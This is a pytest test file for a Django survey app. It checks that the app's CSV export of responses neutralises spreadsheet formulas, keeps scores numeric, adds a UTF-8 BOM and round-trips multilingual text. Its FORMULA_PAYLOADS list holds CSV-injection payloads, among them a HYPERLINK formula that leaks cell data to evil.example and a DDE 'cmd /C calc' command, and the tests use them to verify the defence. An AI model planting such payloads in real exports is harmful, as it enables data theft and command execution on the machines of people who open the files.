"""CSV export of responses: formulas neutralised, scores numeric, UTF-8 with BOM, round-trips."""

import csv
import io
from datetime import UTC, datetime

import pytest

from cxloop.core.models import Store
from cxloop.surveys.exports import neutralize
from cxloop.surveys.models import Response
from cxloop.surveys.scoring import SCALES

from .factories import make_customer, make_survey

pytestmark = pytest.mark.django_db

# Lines a spreadsheet would run as formulas, as they reach us in comments and names.
FORMULA_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\n-1",
]
SAFE_TEXT = ["a=b", "Great, 10/10", "jakość -", "物流很快", "بسته‌بندی عالی"]


@pytest.mark.parametrize("value", FORMULA_PAYLOADS)
def test_formula_cells_get_an_apostrophe(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", SAFE_TEXT + [""])
def test_other_text_is_unchanged(value):
    assert neutralize(value) == value


def read_csv(response) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_export_round_trips_hostile_comments_and_names(staff_client, store):
    Store.objects.filter(pk=store.pk).update(timezone="Asia/Tehran")
    survey = make_survey(store, kind="nps")
    customer = make_customer(
        store, email="=evil@example.com", first_name="@Zahra", last_name="+رضایی", country="IR"
    )
    at = datetime(2025, 3, 12, 20, 45, tzinfo=UTC)  # 00:15 on 13 March in Tehran
    # NUL never reaches the database (answers refuse control characters, and
    # PostgreSQL text cannot hold it); neutralize() itself is tested with it above.
    storable = [payload for payload in FORMULA_PAYLOADS if "\0" not in payload]
    comments = storable + SAFE_TEXT
    for index, comment in enumerate(comments):
        Response.objects.create(
            store=store, survey=survey, customer=customer, channel="email", language="fa",
            score=index % 11, band=SCALES["nps"].band(index % 11), comment=comment,
            comment_language="fa", country="IR", created_at=at, updated_at=at,
        )  # fmt: skip

    response = staff_client.get(f"/surveys/{survey.pk}/responses.csv?since=2025-03-01&until=2025-03-31")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="nps-survey-responses-2025-03-01-2025-03-31.csv"'
    )
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows[0] == [
        "Date", "Survey", "Score", "Band", "Comment", "Comment language",
        "Customer email", "Customer name", "Country", "Channel",
    ]  # fmt: skip
    body = rows[1:]
    assert len(body) == len(comments)
    first = body[0]
    assert first[0] == "2025-03-13T00:15:00+03:30"
    assert first[1:4] == ["NPS survey", "0", "Detractor"]
    assert first[6:] == ["'=evil@example.com", "'@Zahra +رضایی", "IR", "Email"]
    assert [row[4] for row in body] == ["'" + c for c in storable] + SAFE_TEXT
    assert [int(row[2]) for row in body] == [index % 11 for index in range(len(comments))]
    for row in body:
        for cell in row[:2] + row[3:]:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\0")) or cell.startswith("'"), cell


def test_export_follows_the_comment_filters(staff_client, store):
    survey = make_survey(store, kind="csat")
    at = datetime(2025, 3, 12, 12, 0, tzinfo=UTC)
    for score, comment in [(5, "Świetna JAKOŚĆ"), (1, "Zła jakość"), (4, ""), (2, "late")]:
        Response.objects.create(
            store=store, survey=survey, channel="web", language="pl", score=score,
            band=SCALES["csat"].band(score), comment=comment, created_at=at, updated_at=at,
        )  # fmt: skip
    base = f"/surveys/{survey.pk}/responses.csv?since=2025-03-01&until=2025-03-31"

    _, everything = read_csv(staff_client.get(base))
    _, comments = read_csv(staff_client.get(base + "&comments=1"))
    _, low_quality = read_csv(staff_client.get(base + "&band=low&q=jakość"))

    assert [row[2] for row in everything[1:]] == ["5", "1", "4", "2"]
    assert [row[2] for row in comments[1:]] == ["5", "1", "2"]
    assert [row[4] for row in low_quality[1:]] == ["Zła jakość"]
